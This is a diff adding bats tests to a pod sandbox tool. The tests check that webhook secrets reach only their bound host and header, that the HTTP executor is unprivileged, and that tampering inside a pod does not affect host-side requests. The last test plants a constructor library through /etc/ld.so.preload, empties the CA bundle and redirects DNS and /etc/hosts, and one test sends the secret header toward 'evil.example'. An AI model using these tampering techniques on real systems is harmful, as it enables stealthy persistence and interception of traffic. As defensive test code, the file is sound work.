@@ -52,8 +52,43 @@ served() { git -C "$T/srv/repo.git" -c safe.directory='*' rev-parse -q --verify 
 	sent '.target == "/gone" and .method == "DELETE"'
 	done_ok webhook '{"url":"https://api.example/hook","payload":{"event":"x"}}'
 	jq -e '.result.body | fromjson | .body == "{\"event\":\"x\"}"' "$result"
-	failed webhook '{"url":"https://api.example/hook2","payload":{},"secret_header":"X-Signature"}' "nothing in a pod has the secret"
+}
+
+@test "webhook with a secret_header: the value is bound to host and header, and put in on the way out" {
+	local hook='{"url":"https://api.example/hook2","payload":{},"secret_header":"X-Hook-Token"}'
+	failed webhook "$hook" "no secret is bound to api.example as header X-Hook-Token"
 	refute sent '.target == "/hook2"'
+	printf hook-token-of-the-vault | on_host envpod vault web set HOOK
+	on_host envpod vault web bind HOOK api.example --header 'X-Hook-Token: {value}'
+	failed webhook '{"url":"https://evil.example/hook2","payload":{},"secret_header":"X-Hook-Token"}' "no secret is bound to evil.example"
+	failed webhook '{"url":"http://api.example/hook2","payload":{},"secret_header":"X-Hook-Token"}' "no secret is bound"
+	failed webhook '{"url":"https://api.example/hook2","payload":{},"secret_header":"X-Other"}' "no secret is bound"
+	failed webhook '{"url":"https://api.example/hook2","payload":{},"secret_header":"X-Hook-Token","headers":{"x-hook-token":"mine"}}' "is what secret_header is for"
+	refute sent '.target == "/hook2"'
+	done_ok webhook "$hook"
+	sent '.target == "/hook2" and any(.headers[]; . == ["x-hook-token", "hook-token-of-the-vault"])'
+	refute grep -rl hook-token-of-the-vault "$ENVPOD_STATE_DIR/pods/web/queue" "$ENVPOD_STATE_DIR/pods/web/audit" "$ENVPOD_STATE_DIR/pods/web/undo"
+	on_host envpod vault web unbind HOOK
+}
+
+# of_the_request FIELD: what /proc says of the executor that waits for an answer.
+of_the_request() { sed -n "s/^$1:[[:space:]]*//p" "/proc/$(pgrep -x pod-action-http)/status"; }
+
+@test "an http action is at work outside of the view: no file, no power, in the pod's network; it ends with the pod's init" {
+	action http_get '{"url":"https://api.example/silent"}' &
+	local job=$! pid uid
+	wait_for 20 sent '.target == "/silent"'
+	pid=$(pgrep -x pod-action-http)
+	uid=$(of_the_request Uid | cut -f 2)
+	[ "$uid" -ge $((0x70000000)) ]
+	[ "$(of_the_request CapEff)" = 0000000000000000 ]
+	[ "$(of_the_request Seccomp) $(of_the_request NoNewPrivs)" = "2 1" ]
+	[ "$(readlink "/proc/$pid/ns/net")" = "$(readlink "/proc/$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")/ns/net")" ]
+	[ "$(readlink "/proc/$pid/ns/mnt")" != "$(readlink "/proc/$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")/ns/mnt")" ]
+	kill -KILL "$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")"
+	wait "$job"
+	jq -e '.status == "failed"' "$QUEUE"/done/*"$(printf %04d $((N + 1)) | tr 0189 wxyz)".json
+	wait_for 20 on_host envpod start web -- sleep 1000
 }
 
 @test "the key is put in on the way out: neither action, executor nor record has it" {
@@ -134,4 +169,19 @@ served() { git -C "$T/srv/repo.git" -c safe.directory='*' rev-parse -q --verify 
 	on_host pod-net down web
 	done_ok http_get '{"url":"https://api.example/late"}'
 	sent '.target == "/late"'
+}
+
+@test "loader, libraries, authorities and resolvers that the pod has changed are nobody's but its own" {
+	on_host envpod run --user root web -- sh -c '
+		printf "int x(void) __attribute__((constructor));\nint open(const char *, int, ...); int x(void) { return open(\"/tmp/planted\", 0101, 0666); }\n" >/tmp/p.c
+		cc -shared -fPIC -o /opt/planted.so /tmp/p.c && echo /opt/planted.so >/etc/ld.so.preload &&
+		: >/etc/ssl/certs/ca-certificates.crt && echo "nameserver 203.0.113.99" >/etc/resolv.conf && echo "198.51.100.2 api.example" >>/etc/hosts'
+	in_pod web sh -c 'rm -f /tmp/planted; env true; [ -e /tmp/planted ]'
+	refute in_pod web curl -s --max-time 5 https://api.example/by-the-pod
+	in_pod web rm -f /tmp/planted
+	done_ok http_get '{"url":"https://api.example/of-the-host"}'
+	sent '.target == "/of-the-host" and .at == "198.51.100.1:443"'
+	[ ! -e "/proc/$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")/root/tmp/planted" ]
+	# That it was answered is ours to vouch for.
+	pod-audit query --json web | jq -es 'map(select(.event == "action_executed")) | last | .http_status == 200'
 }
